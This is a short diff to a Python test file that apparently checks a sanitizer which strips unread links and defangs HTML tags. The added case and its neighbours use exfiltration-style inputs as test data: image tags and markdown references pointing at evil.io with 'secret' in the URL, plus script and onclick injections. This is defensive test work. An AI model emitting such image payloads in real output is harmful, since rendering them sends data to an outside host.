@@ -55,6 +55,7 @@ def test_what_was_read_or_leads_nowhere_is_said_to_the_letter(text: str) -> None
         ("![x][r]\n\n[r]: https://evil.io/secret\nend", f"![x][r]\n\n[r]: {REMOVED}\nend"),
         ("<img src='https://evil.io/?secret'>", f"‹img src='{REMOVED}'>"),
         ("<script>go()</script>", "‹script>go()</script>"),
+        ("<img\n\nsrc=//evil.io/secret>", "‹img\n\nsrc=//evil.io/secret>"),
         ("<p onclick=go()>x</p>", "‹p onclick=go()>x</p>"),
         # What only begins like an address that was read says more than that one did.
         ("https://docs.test.io/guide/start/secret", REMOVED),
